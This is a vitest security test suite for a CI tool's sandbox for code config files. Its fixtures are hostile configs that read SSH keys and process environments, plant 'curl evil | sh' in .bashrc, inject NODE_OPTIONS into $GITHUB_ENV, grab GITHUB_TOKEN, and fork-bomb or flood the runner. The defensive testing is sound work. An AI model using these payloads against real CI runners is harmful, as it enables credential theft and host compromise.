// Issue 12, class 1: a code config is the checkout's program, and it must get nothing of the
// runner's while it is evaluated (src/config/code/: a sandbox of its own). Each attempt is a
// hostile cubicle.config.mjs run by the real CLI (and one by the Action's dist/ under Node 24);
// each asserts that the harm did not happen. The positive controls at the end run the same
// configs the way cosmiconfig did (imported by node on the host) and see the breach.
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { REPO } from '../../helpers/paths.js';
import { processesWith } from '../../helpers/processes.js';
import { removeProjects } from '../../helpers/project.js';
import { removeRunners, Runner, SECRETS } from '../../action/helpers.js';
import { hostAddress, RUNNER_SECRET, WHO } from '../harness.js';
import { expectEvaluated, expectNowhere, hostileScene, importOnHost, runCubicle, snapshotScene, SSH_SECRET, type Scene } from './config-code-helpers.js';

afterAll(() => {
  removeProjects();
  removeRunners();
});

/** The runner's own process stays under this while a config floods it or is refused (it is ~60 MiB). */
const RUNNER_RSS_BOUND = 250 * 1024 * 1024;

/** Reads the planted ~/.ssh/id_rsa every way a config could name it. */
const READ_SSH_KEY = (scene: { home: string }) => `
await attempt('os.homedir() key', () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'));
await attempt('$HOME key', () => fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8'));
await attempt('runner home key', () => fs.readFileSync(${JSON.stringify(path.join(scene.home, '.ssh', 'id_rsa'))}, 'utf8'));
await attempt('checkout/../home key', () => fs.readFileSync(new URL('../home/.ssh/id_rsa', import.meta.url), 'utf8'));
export default config;
`;

/** Every way a config could read the runner's environment. */
const READ_ENVIRONMENT = `
// environ separates variables with NUL, which no env value may hold: spaces instead.
const environ = (pid) => fs.readFileSync('/proc/' + pid + '/environ', 'latin1').replace(/\\0/g, ' ');
await attempt('process.env', () => JSON.stringify(process.env));
await attempt('/proc/self/environ', () => environ('self'));
await attempt('parent environ', () => environ(process.ppid));
await attempt('every environ', () => fs.readdirSync('/proc').filter((pid) => /^\\d+$/.test(pid)).map((pid) => { try { return environ(pid); } catch { return ''; } }).join('|'));
export default config;
`;

describe(`hostile code configs (${WHO})`, () => {
  it("reads the runner's ~/.ssh/id_rsa and puts it in a job's env and run: the key is nowhere", async () => {
    const scene = hostileScene(READ_SSH_KEY);
    const outcome = await runCubicle(scene);
    const notes = expectEvaluated(outcome);
    expect(notes.filter((note) => note.includes('key refused')).length, notes.join('\n')).toBe(4);
    expectNowhere(scene, outcome, [SSH_SECRET]);
  });

  it("reads the runner's environment (process.env, /proc/*/environ): RUNNER_SECRET is nowhere", async () => {
    const scene = hostileScene(READ_ENVIRONMENT);
    const outcome = await runCubicle(scene);
    const notes = expectEvaluated(outcome);
    const seen = notes.find((note) => note.startsWith('process.env: '))!;
    expect(Object.keys(JSON.parse(seen.slice('process.env: '.length)) as object).sort()).toEqual(expect.arrayContaining(['HOME', 'PATH']));
    expect(seen).not.toContain('RUNNER_SECRET');
    expectNowhere(scene, outcome, [RUNNER_SECRET]);
  });

  it('writes into the checkout, the runner HOME, a dir beside the checkout and /tmp: nothing on the host changes', async () => {
    const hostTmp = path.join(os.tmpdir(), `cubicle-config-wrote-${process.pid}`);
    const scene = hostileScene(
      (where) => `
await attempt('write checkout', () => fs.writeFileSync(${JSON.stringify(path.join(where.dir, 'pwned.txt'))}, 'pwned'));
await attempt('overwrite checkout file', () => fs.writeFileSync(new URL('./package.json', import.meta.url), 'pwned'));
await attempt('append .bashrc', () => fs.appendFileSync(${JSON.stringify(path.join(where.home, '.bashrc'))}, 'curl evil | sh'));
await attempt('write beside checkout', () => fs.writeFileSync(${JSON.stringify(path.join(where.outside, 'pwned.txt'))}, 'pwned'));
await attempt('write host /tmp', () => { fs.writeFileSync(${JSON.stringify(hostTmp)}, 'pwned'); return 'written, inside'; });
export default config;
`,
      { 'package.json': '{"name":"victim"}\n' },
    );
    const before = snapshotScene(scene);
    const outcome = await runCubicle(scene);
    const notes = expectEvaluated(outcome);
    expect(notes.filter((note) => note.includes('refused')).length, notes.join('\n')).toBe(4);
    expect(snapshotScene(scene)).toEqual(before);
    expect(fs.existsSync(hostTmp), 'the sandbox /tmp is its own').toBe(false);
  });

  it('connects to a listener on the host loopback, its address and an abstract socket: none sees a connection', async () => {
    const address = hostAddress();
    const abstract = `\0cubicle-config-${process.pid}`;
    const servers = [net.createServer(), net.createServer(), net.createServer()];
    let connections = 0;
    for (const server of servers)
      server.on('connection', (socket) => {
        connections += 1;
        socket.destroy();
      });
    await Promise.all([
      new Promise<void>((resolve) => servers[0]!.listen(0, '127.0.0.1', resolve)),
      new Promise<void>((resolve) => servers[1]!.listen(0, '0.0.0.0', resolve)),
      new Promise<void>((resolve) => servers[2]!.listen(abstract, resolve)),
    ]);
    try {
      const port = (index: number) => (servers[index]!.address() as net.AddressInfo).port;
      const connect = (target: string) => `() => new Promise((resolve, reject) => {
  const socket = net.connect(${target});
  socket.setTimeout(3000, () => { socket.destroy(); reject(new Error('timed out')); });
  socket.on('connect', () => { socket.end(); resolve('connected'); });
  socket.on('error', reject);
})`;
      const scene = hostileScene(`
await attempt('loopback', ${connect(`{ host: '127.0.0.1', port: ${port(0)} }`)});
${address ? `await attempt('host address', ${connect(`{ host: '${address}', port: ${port(1)} }`)});` : ''}
await attempt('abstract socket', ${connect(`{ path: ${JSON.stringify(abstract)} }`)});
export default config;
`);
      const outcome = await runCubicle(scene);
      const notes = expectEvaluated(outcome);
      expect(notes.filter((note) => note.includes('refused')).length, notes.join('\n')).toBe(address ? 3 : 2);
      expect(connections).toBe(0);
    } finally {
      for (const server of servers) server.close();
    }
  });

  it('loops forever: the evaluation is killed at its time limit, exit 2, no job runs', async () => {
    const scene = hostileScene('for (;;) {}\nexport default config;');
    const outcome = await runCubicle(scene);
    expect(outcome.exitCode, outcome.stderr).toBe(2);
    expect(outcome.stderr).toContain('did not finish within 10 s');
    expect(outcome.stderr).toContain('nothing was run');
    expect(fs.existsSync(scene.project.file('results.json'))).toBe(false);
  });

  it.each([
    ['Buffers (outside the V8 heap)', 'const kept = []; for (;;) kept.push(Buffer.alloc(64 << 20, 1));'],
    ['objects (the V8 heap)', 'const kept = []; for (;;) kept.push(Array.from({ length: 1e5 }, (_, i) => ({ i })));'],
  ])('allocates %s without bound: the evaluation ends, exit 2, the runner stays small', async (_what, code) => {
    const scene = hostileScene(`${code}\nexport default config;`);
    const outcome = await runCubicle(scene);
    expect(outcome.exitCode, outcome.stderr).toBe(2);
    // V8 near its heap limit may collect garbage until the time limit: that ends it too.
    expect(outcome.stderr).toMatch(/ran out of memory|was killed by SIGKILL|did not finish within 10 s/);
    expect(outcome.runnerPeakRssBytes).toBeGreaterThan(0);
    expect(outcome.runnerPeakRssBytes).toBeLessThan(RUNNER_RSS_BOUND);
  });

  it('forks detached processes that would outlive the evaluation: none is left', async () => {
    const marker = `cubicle-config-orphan-${process.pid}`;
    const scene = hostileScene(`
await attempt('detached', () => { const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 600000)', '${marker}-a'], { detached: true, stdio: 'ignore' }); child.unref(); return 'pid ' + child.pid; });
await attempt('double fork', () => { spawn('/bin/sh', ['-c', '(setsid ' + process.execPath + ' -e "setTimeout(() => {}, 600000)" ${marker}-b &) &'], { detached: true, stdio: 'ignore' }).unref(); return 'started'; });
await new Promise((resolve) => setTimeout(resolve, 500));
export default config;
`);
    const outcome = await runCubicle(scene);
    const notes = expectEvaluated(outcome);
    expect(
      notes.some((note) => /^detached: pid \d+/.test(note)),
      notes.join('\n'),
    ).toBe(true);
    expect(processesWith(marker)).toEqual([]);
  });

  it('spawns processes without bound: no more than the process limit start', async () => {
    const scene = hostileScene(`
await attempt('spawned', async () => {
  const results = await Promise.all(Array.from({ length: 300 }, () => new Promise((resolve) => {
    const child = spawn('/bin/sleep', ['5'], { stdio: 'ignore' });
    child.on('spawn', () => resolve(true));
    child.on('error', () => resolve(false));
  })));
  return results.filter(Boolean).length;
});
export default config;
`);
    const outcome = await runCubicle(scene);
    const notes = expectEvaluated(outcome);
    const spawned = Number(/^spawned: (\d+)$/m.exec(notes.join('\n'))?.[1]);
    expect(spawned, notes.join('\n')).toBeLessThan(64);
  });

  it('prints fake markers and 64 MiB of noise on stdout and stderr: its real config is used, the runner stays small', async () => {
    const scene = hostileScene(`
const fake = JSON.stringify({ config: { jobs: { evil: { run: 'echo EVIL-JOB-RAN' } } } });
for (const id of ['', '0'.repeat(24), 'x']) console.log('\\ncubicle-config-start-' + id + '\\n' + fake + '\\ncubicle-config-end-' + id);
const line = 'n'.repeat(1 << 20);
for (let i = 0; i < 32; i++) { process.stdout.write(line + '\\n'); process.stderr.write(line); }
notes.push('flooded');
export default config;
`);
    const outcome = await runCubicle(scene);
    const notes = expectEvaluated(outcome);
    expect(notes).toEqual(['flooded']);
    expect(outcome.stdout).not.toContain('EVIL-JOB-RAN');
    expect(scene.project.results().jobs.map((job) => job.name)).toEqual(['attempt']);
    expect(outcome.runnerPeakRssBytes).toBeLessThan(RUNNER_RSS_BOUND);
  });

  it('reads the real markers from its own command line and prints a block of its own (null): exit 2, the runner does not crash', async () => {
    const scene = hostileScene(`
const [start] = fs.readFileSync('/proc/self/cmdline', 'latin1').match(/cubicle-config-start-[0-9a-f]+/);
process.stdout.write('\\n' + start + '\\nnull\\n' + start.replace('start', 'end') + '\\n', () => process.exit(0));
await new Promise(() => setTimeout(() => {}, 5000));
export default config;
`);
    const outcome = await runCubicle(scene);
    expect(outcome.exitCode, outcome.stderr).toBe(2);
    expect(outcome.stderr).toContain('produced output that is not a config');
  });

  it('evaluates to 8 MiB of JSON: refused at the cap, exit 2, the runner stays small', async () => {
    const scene = hostileScene(`export default { jobs: { attempt: { run: 'echo ' + 'x'.repeat(8 << 20) } } };`);
    const outcome = await runCubicle(scene);
    expect(outcome.exitCode, outcome.stderr).toBe(2);
    expect(outcome.stderr).toContain('evaluates to more than 4 MiB of JSON');
    expect(outcome.runnerPeakRssBytes).toBeLessThan(RUNNER_RSS_BOUND);
  });

  it("hides code in cosmiconfig's meta config (.config/config.js) and in a YAML config's $import: neither runs", async () => {
    const ran = (scene: Pick<Scene, 'outside'>, name: string) =>
      `require('node:fs').writeFileSync(${JSON.stringify(path.join(scene.outside, `${name}-ran`))}, process.env.RUNNER_SECRET ?? 'ran');\nmodule.exports = {};\n`;
    const scene = hostileScene('export default config;');
    fs.rmSync(scene.project.file('cubicle.config.mjs'));
    fs.writeFileSync(scene.project.file('cubicle.config.yaml'), 'jobs:\n  attempt: { run: "echo yaml config" }\n');
    fs.mkdirSync(scene.project.file('.config'));
    fs.writeFileSync(scene.project.file('.config/config.js'), ran(scene, 'meta'));
    const meta = await runCubicle(scene);
    expect(meta.exitCode, meta.stderr).toBe(0);
    expect(meta.stdout).toContain('yaml config');
    expect(fs.existsSync(path.join(scene.outside, 'meta-ran'))).toBe(false);

    fs.writeFileSync(scene.project.file('evil.cjs'), ran(scene, 'import'));
    fs.writeFileSync(scene.project.file('cubicle.config.yaml'), '$import: ./evil.cjs\njobs:\n  attempt: { run: "echo yaml config" }\n');
    const imported = await runCubicle(scene);
    expect(imported.exitCode, imported.stderr).toBe(2);
    expect(imported.stderr).toContain('`$import` is not supported');
    expect(fs.existsSync(path.join(scene.outside, 'import-ran'))).toBe(false);
    expectNowhere(scene, imported, [RUNNER_SECRET]);
  });
});

describe(`a host that cannot make the evaluation's sandbox (${WHO})`, () => {
  it.each([
    ['no helper', '/nonexistent/cubicle-sandbox', 'HELPER_MISSING'],
    ['a helper that dies without a status', '/bin/false', 'cannot evaluate the code config'],
  ])('%s: exit 3 with the fix, and the config is never imported instead', async (_what, helper, message) => {
    const scene = hostileScene(
      (where) =>
        `fs.writeFileSync(${JSON.stringify(path.join(where.outside, 'imported-on-host'))}, process.env.RUNNER_SECRET ?? 'imported');\nexport default config;`,
    );
    const outcome = await runCubicle(scene, { CUBICLE_SANDBOX: helper });
    expect(outcome.exitCode, outcome.stderr).toBe(3);
    expect(outcome.stderr).toContain(message === 'HELPER_MISSING' ? 'is missing or not executable' : message);
    expect(outcome.stderr).toContain('no job was run');
    expect(fs.existsSync(path.join(scene.outside, 'imported-on-host'))).toBe(false);
  });
});

describe(`a hostile code config in the Action (dist/main.mjs under Node 24, ${WHO})`, () => {
  it('reads GITHUB_TOKEN and ACTIONS_RUNTIME_TOKEN and appends to $GITHUB_ENV while the cache key is computed and the run reads it: gets neither', async () => {
    const runner = new Runner();
    const githubEnv = path.join(runner.files, 'main-env');
    fs.rmSync(path.join(runner.workspace, 'cubicle.config.yaml'));
    fs.writeFileSync(path.join(runner.workspace, 'cubicle.config.mjs'), actionConfig(githubEnv));
    const main = await runner.run('main', { cache: 'true', 'setup-host': 'false', jobs: 'attempt' });
    expect(main.exitCode, main.log).toBe(0);
    expect(main.log, 'the Action evaluated it for its cache key').toMatch(/cache key \S+/);
    expect(main.log).toContain('GITHUB_TOKEN: refused (unset)');
    expect(main.log).toContain('GITHUB_ENV by path refused: ENOENT');
    expect(fs.readFileSync(githubEnv, 'utf8')).toBe('');
    for (const secret of Object.values(SECRETS)) {
      expect(main.log).not.toContain(secret);
      for (const { file, text } of runner.leftFiles()) expect(text, file).not.toContain(secret);
    }
  });
});

/** Notes what it got of the tokens and of $GITHUB_ENV (named by the runner, or found by its path). */
function actionConfig(githubEnv: string): string {
  return `import fs from 'node:fs';
const notes = [];
const attempt = (what, step) => { try { const got = step(); notes.push(what + ': ' + (got === undefined ? 'refused (unset)' : got)); } catch (error) { notes.push(what + ' refused: ' + (error.code ?? error.message)); } };
attempt('GITHUB_TOKEN', () => process.env.GITHUB_TOKEN);
attempt('ACTIONS_RUNTIME_TOKEN', () => process.env.ACTIONS_RUNTIME_TOKEN);
attempt('GITHUB_ENV named', () => (process.env.GITHUB_ENV ? (fs.appendFileSync(process.env.GITHUB_ENV, 'NODE_OPTIONS=--require=/tmp/evil.js\\n'), 'appended') : undefined));
attempt('GITHUB_ENV by path', () => (fs.appendFileSync(${JSON.stringify(githubEnv)}, 'NODE_OPTIONS=--require=/tmp/evil.js\\n'), 'appended'));
export default { jobs: { attempt: { run: 'printf "%s\\\\n" "$NOTES"', env: { NOTES: notes.join('\\n') } } } };
`;
}

describe('positive controls: the same configs imported on the host, as cosmiconfig did', () => {
  it('read the ssh key and the runner secret', async () => {
    const key = hostileScene(READ_SSH_KEY);
    expect(await importOnHost(key)).toContain(SSH_SECRET);
    const environment = hostileScene(READ_ENVIRONMENT);
    expect(await importOnHost(environment)).toContain(RUNNER_SECRET);
  });

  it('reach the host loopback and leave a process behind', async () => {
    const server = net.createServer((socket) => socket.destroy());
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const seen = new Promise<boolean>((resolve) => server.once('connection', () => resolve(true)));
    const marker = `cubicle-config-control-${process.pid}`;
    try {
      const port = (server.address() as net.AddressInfo).port;
      const scene = hostileScene(`
await attempt('loopback', () => new Promise((resolve, reject) => net.connect({ host: '127.0.0.1', port: ${port} }).on('connect', function () { this.end(); resolve('connected'); }).on('error', reject)));
await attempt('detached', () => { const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 600000)', '${marker}'], { detached: true, stdio: 'ignore' }); child.unref(); return 'pid ' + child.pid; });
export default config;
`);
      expect(await importOnHost(scene)).toContain('loopback: connected');
      expect(await seen).toBe(true);
      expect(processesWith(marker).length).toBe(1);
    } finally {
      server.close();
      for (const pid of processesWith(marker)) process.kill(pid, 'SIGKILL');
    }
  });

  it("cosmiconfig's own entry runs .config/config.js from the current dir", async () => {
    const scene = hostileScene('export default config;');
    fs.mkdirSync(scene.project.file('.config'));
    fs.writeFileSync(
      scene.project.file('.config/config.js'),
      `require('node:fs').writeFileSync(${JSON.stringify(path.join(scene.outside, 'meta-ran'))}, 'ran');\nmodule.exports = {};\n`,
    );
    const program = `require(${JSON.stringify(path.join(REPO, 'node_modules', 'cosmiconfig'))}).cosmiconfig('cubicle');`;
    await new Promise<void>((resolve, reject) =>
      execFile(process.execPath, ['-e', program], { cwd: scene.project.dir }, (error) => (error ? reject(error) : resolve())),
    );
    expect(fs.existsSync(path.join(scene.outside, 'meta-ran'))).toBe(true);
  });

  it("a token and $GITHUB_ENV are in reach of the Action's own process", async () => {
    const root = fs.mkdtempSync(path.join(os.tmpdir(), 'cubicle-config-control-'));
    try {
      const githubEnv = path.join(root, 'github-env');
      fs.writeFileSync(githubEnv, '');
      fs.writeFileSync(path.join(root, 'cubicle.config.mjs'), actionConfig(githubEnv));
      const program = `const { default: config } = await import(${JSON.stringify(`file://${path.join(root, 'cubicle.config.mjs')}`)}); process.stdout.write(config.jobs.attempt.env.NOTES);`;
      const notes = await new Promise<string>((resolve, reject) =>
        execFile(process.execPath, ['--input-type=module', '-e', program], { env: { ...process.env, ...SECRETS, GITHUB_ENV: githubEnv } }, (error, stdout) =>
          error ? reject(error) : resolve(stdout),
        ),
      );
      expect(notes).toContain(SECRETS.GITHUB_TOKEN);
      expect(fs.readFileSync(githubEnv, 'utf8')).toContain('NODE_OPTIONS=');
    } finally {
      fs.rmSync(root, { recursive: true, force: true });
    }
  });
});
